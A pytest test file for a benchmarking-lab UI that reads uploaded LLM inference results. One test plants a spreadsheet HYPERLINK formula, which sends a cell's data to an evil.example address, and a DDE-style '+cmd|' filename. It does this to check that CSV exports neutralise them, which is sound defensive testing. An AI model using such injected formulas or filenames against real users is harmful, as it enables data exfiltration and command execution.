"""The student's own results files in the Reality check and Frontier labs, at the parameter level."""

import csv
import io
import json

import numpy as np
import pandas as pd
import pytest

from core import Scenario
from core.evidence.measured.explain import table_rows
from core.evidence.measured.read import MAX_BYTES
from labs.frame.shell import lab_bindings
from labs.frontier.lab import FrontierLab
from labs.page.links import query_for, restore
from labs.reality.lab import RealityLab
from labs.widgets.exports import csv_text
from labs.widgets.measurements import session_measurements
from tests.paths import FIXTURES_DIR

FIXTURES = FIXTURES_DIR / "benchmarks"
THREE = ("vllm_llama31_8b_c16_detailed.json", "guidellm_qwen25_7b_benchmarks.json",
         "aiperf_run1_profile_export_aiperf.json")  # fmt: skip


@pytest.fixture
def lab():
    return RealityLab(scenario=Scenario())


def upload(store, *names):
    store.add({name: (FIXTURES / name).read_bytes() for name in names})


def test_uploads_put_each_point_on_the_charts_and_in_the_table(lab):
    """Three files give four runs: their points on both charts, a table row each, in colours."""
    upload(lab.measured, *THREE)
    throughput, latency = lab.mine.sources
    assert len(throughput.data["key"]) == 4 and len(latency.data["key"]) == 8
    assert len(set(throughput.data["colour"])) == 4
    assert np.all(np.asarray(latency.data["engine"]) > 0)
    assert lab.mine.table.object.count("<tr><td") == 12
    assert lab.mine.details.visible and lab.mine.point == "M1-tput"
    start, end = lab.throughput_chart.x_range.start, lab.throughput_chart.x_range.end
    assert start < min(throughput.data["measured"]) and end > max(throughput.data["engine"])


def test_a_points_waterfall_follows_the_picker(lab):
    """Picking a measured point refills the waterfall with its steps, ending at its ratio."""
    upload(lab.measured, THREE[0])
    lab.mine.point = "M1-itl"
    point = next(p for _, p in lab.measured.points() if p.case.key == "M1-itl")
    assert list(lab.mine.waterfall_source.data["value"])[-1] == pytest.approx(point.steps[-1])
    assert "M1-itl" in lab.mine.point_text.object


def test_bad_files_are_reported_and_good_ones_kept(lab):
    """A broken file and one over the cap get their messages; the good file still shows."""
    upload(lab.measured, THREE[0])
    lab.measured.add({"broken.json": b'{"model_id": "x", ', "big.csv": b"M" * (MAX_BYTES + 1)})
    notice = lab.mine.messages.object
    assert "broken.json: not JSON" in notice and "big.csv:" in notice and "20 MB" in notice
    assert len(lab.mine.sources[0].data["key"]) == 1


def test_the_setup_lives_in_the_link_and_not_the_files(lab):
    """The chosen card and storage go in the link under my_; the files do not."""
    scenario = lab.scenario
    upload(lab.measured, THREE[0])
    lab.measured.gpu, lab.measured.weights = "H200", "fp8"
    query = query_for(lab_bindings(lab, scenario))
    assert "my_gpu=H200" in query and "my_weights=fp8" in query and "vllm" not in query
    other = RealityLab(scenario=Scenario())
    assert restore(lab_bindings(other, other.scenario), query) == []
    assert (other.measured.gpu, other.measured.weights) == ("H200", "fp8")
    assert "H200" in lab.mine.table.object


def test_an_unknown_model_waits_for_a_choice(lab):
    """SGLang's rows name no model: the run says so until a model is chosen."""
    upload(lab.measured, "sglang_random_1024_256.jsonl")
    assert "config.json" in lab.mine.runs_text.object and not lab.mine.sources[0].data["key"]
    lab.measured.model = "Llama-3-8B"
    assert len(lab.mine.sources[0].data["key"]) == 2


def test_frontier_shows_the_sessions_runs():
    """The Frontier lab of the same session draws each run on its per-user, per-GPU axes."""
    scenario = Scenario()
    frontier = FrontierLab(scenario=scenario)
    upload(session_measurements(scenario), *THREE)
    data = frontier.measured_source.data
    assert len(data["x"]) == 4 and data["key"] == ["M1", "M2", "M3", "M4"]
    frontier.x_axis = "ttft"
    assert len(frontier.measured_source.data["x"]) == 0


def test_a_pasted_config_json_explains_an_unknown_model(lab):
    """Pasting a config.json evaluates runs of unknown models on it; a bad one says why."""
    from core.evidence.configs import QWEN3_32B

    upload(lab.measured, "sglang_random_1024_256.jsonl")
    lab.mine.config_text.value = "{not json"
    lab.mine._paste()
    assert "config.json:" in lab.mine.messages.object
    lab.mine.config_text.value = QWEN3_32B
    lab.mine._paste()
    assert lab.measured.model == "custom" and len(lab.mine.sources[0].data["key"]) == 2
    assert lab.scenario.model_config == ""  # the session's own model is left alone


def test_a_hostile_model_name_downloads_as_inert_text(lab):
    """A results file naming its model as a spreadsheet formula exports that name as text."""

    run = json.loads((FIXTURES / THREE[0]).read_text())
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
    run["model_id"] = formula
    lab.measured.add({"+cmd|' -c calc'!A0.json": json.dumps(run).encode()})
    lab.measured.model = "Llama-3-8B"  # the formula names no model the catalog knows
    frame = pd.DataFrame(table_rows(lab.measured.explained))
    assert len(frame) and set(frame["model_in_file"]) == {formula}
    rows = list(csv.reader(io.StringIO(csv_text(frame))))
    header = rows[0]
    for row in rows[1:]:
        assert row[header.index("model_in_file")] == "'" + formula
        assert row[header.index("file")].startswith("'+cmd")


def test_more_files_than_kept_say_which_were_set_aside(lab):
    """A thirteenth file keeps the twelve newest and names the one set aside in the notices."""
    from labs.widgets.measurements import MAX_FILES

    content = (FIXTURES / THREE[0]).read_bytes()
    lab.measured.add({f"run{index:02d}.json": content for index in range(MAX_FILES + 1)})
    assert len(lab.measured.files) == MAX_FILES
    assert "set aside run00.json" in lab.mine.messages.object


def test_a_file_no_reader_expected_is_a_notice_not_a_traceback(lab):
    """A results file with a number written as text is refused in the notices, by name."""
    lab.measured.add({"text-number.json": b'{"model_id": "m", "mean_ttft_ms": "12"}'})
    assert "text-number.json: mean_ttft_ms is &#x27;12&#x27;, not a number" in (
        lab.mine.messages.object
    )


def test_the_drop_zone_takes_jsonl_and_tiles_say_what_became_of_each_file(lab):
    """A .jsonl drop is read (no MIME filter); a broken file's tile is red and says why."""
    zone = lab.mine.upload
    lab.measured.model = "Llama-3-8B"  # AIPerf's per-request file names no model
    assert zone.dropper.accepted_filetypes == []  # the browser passes every type to core
    names = ("aiperf_run1_profile_export.jsonl", "broken_truncated.json")
    zone.dropper.value = {name: (FIXTURES / name).read_bytes() for name in names}
    tiles = zone.tiles.object
    assert 'data-file-tile="read"><b>aiperf_run1_profile_export.jsonl</b>: read' in tiles
    refused = tiles.split('data-file-tile="refused">')[1]
    assert refused.startswith("<b>broken_truncated.json</b>: not read: not JSON")
    assert len(lab.mine.sources[0].data["key"]) > 0


def test_clear_my_files_clears_the_tiles_and_the_drop_zone(lab):
    """A read file's browser tile is taken off; "Clear my files" empties the tiles and the zone."""
    zone = lab.mine.upload
    zone.dropper.value = {"broken.json": b"{"}
    assert "broken.json" in zone.tiles.object and zone.tile_signal.value.startswith("read:")
    lab.mine.clear.clicks += 1
    assert zone.tiles.object == "" and lab.measured.refused == {}
    assert zone.tile_signal.value.startswith("all:")
